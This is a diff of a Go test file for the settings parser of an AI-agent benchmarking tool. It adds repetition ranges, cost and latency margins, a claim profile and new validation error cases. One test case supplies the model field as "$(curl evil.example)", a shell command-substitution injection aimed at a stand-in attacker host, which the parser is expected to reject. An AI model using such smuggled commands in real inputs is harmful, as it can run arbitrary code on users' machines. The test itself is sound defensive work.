@@ -22,7 +22,7 @@ func TestAFileWithAModelIsEnough(t *testing.T) {
 	want.Model = "openai/gpt-5.3-codex"
 	assert.Equal(t, want, s)
 	assert.Equal(t, []bench.Mode{bench.AgentDirect, bench.GHX}, s.Modes)
-	assert.Equal(t, 4, s.Repetitions)
+	assert.Zero(t, s.Repetitions, "those of the profile")
 }
 
 // fields returns the values of all settings by their paths.
@@ -52,11 +52,12 @@ triggers:
   drafts: true
 labels: {run: bench, skip: no-bench}
 paths: ["packages/core/**", "!**/*.md"]
-profile: verify_release
+profile: claim
 scenario_set: issues
 modes: [agent_direct, mcp, ghx]
 baseline_mode: mcp
-repetitions: 8
+repetitions: 2..8
+margins: {success: 10, cost: 1.1, latency: 1.3}
 model: scripted
 target: aryeko/ghx-bench-fixtures
 executor: local
@@ -77,8 +78,8 @@ check_name: agents
 	assert.Equal(t, settings.Settings{
 		Triggers: settings.Triggers{PullRequest: []string{"labeled", "synchronize"}, MergeGroup: true, Drafts: true},
 		Labels:   settings.Labels{Run: "bench", Skip: "no-bench"}, Paths: []string{"packages/core/**", "!**/*.md"},
-		Profile: bench.VerifyRelease, ScenarioSet: "issues", Modes: []bench.Mode{bench.AgentDirect, bench.MCP, bench.GHX}, BaselineMode: bench.MCP,
-		Repetitions: 8, Model: settings.Scripted, Target: "aryeko/ghx-bench-fixtures", Executor: settings.Local, Workflow: "measure.yaml", Benchmark: "tau-bench", TimeoutMinutes: 30,
+		Profile: bench.ProfileClaim, ScenarioSet: "issues", Modes: []bench.Mode{bench.AgentDirect, bench.MCP, bench.GHX}, BaselineMode: bench.MCP,
+		Repetitions: bench.Repetitions{First: 2, Most: 8}, Margins: settings.Margins{Success: 10, Cost: 1.1, Latency: 1.3}, Model: settings.Scripted, Target: "aryeko/ghx-bench-fixtures", Executor: settings.Local, Workflow: "measure.yaml", Benchmark: "tau-bench", TimeoutMinutes: 30,
 		Budget: settings.Budget{Run: 1.5, PullRequest: 5, Day: 20}, Commands: settings.Commands{Permission: "maintain"}, Forks: settings.ForksNever,
 		Comment: "on-change", CheckName: "agents",
 	}, s)
@@ -105,6 +106,14 @@ func TestMistakesPointAtTheirLine(t *testing.T) {
 		{"a misspelt field", "model: a/b\nrepetition: 4\n", 2, `did you mean "repetitions"?`},
 		{"a wrong type", "model: a/b\nrepetitions: four\n", 2, "repetitions"},
 		{"too many repetitions", "model: a/b\n\nrepetitions: 101\n", 3, "at most 100"},
+		{"a range that is none", "model: a/b\nprofile: regression\nrepetitions: 12..2\n", 3, "the first number is how many there are at least"},
+		{"a range from 0", "model: a/b\nprofile: regression\nrepetitions: 0..4\n", 3, "repetitions"},
+		{"a range up to 1000", "model: a/b\nprofile: regression\nrepetitions: 2..1000\n", 3, "repetitions"},
+		{"a range up to 999", "model: a/b\nprofile: regression\nrepetitions: 2..999\n", 3, "100 are the most"},
+		{"a range for fixed thresholds", "model: a/b\nrepetitions: 2..12\n", 2, "regression or claim"},
+		{"one repetition for evidence", "model: a/b\nprofile: claim\nrepetitions: 1\n", 3, "2 or more"},
+		{"a margin of nothing", "model: a/b\nmargins: {success: 0}\n", 2, "margins.success"},
+		{"a margin below 1", "model: a/b\nmargins:\n  cost: 0.9\n", 3, "margins.cost"},
 		{"a model with a shell's words", "model: \"$(curl evil.example)\"\n", 1, "model"},
 		{"an unknown mode", "model: a/b\nmodes: [agent_direct, gxh]\n", 2, `must be one of "agent_direct", "mcp", "ghx"`},
 		{"modes without the candidate", "model: a/b\nmodes: [agent_direct, mcp]\n", 2, "lacks ghx"},
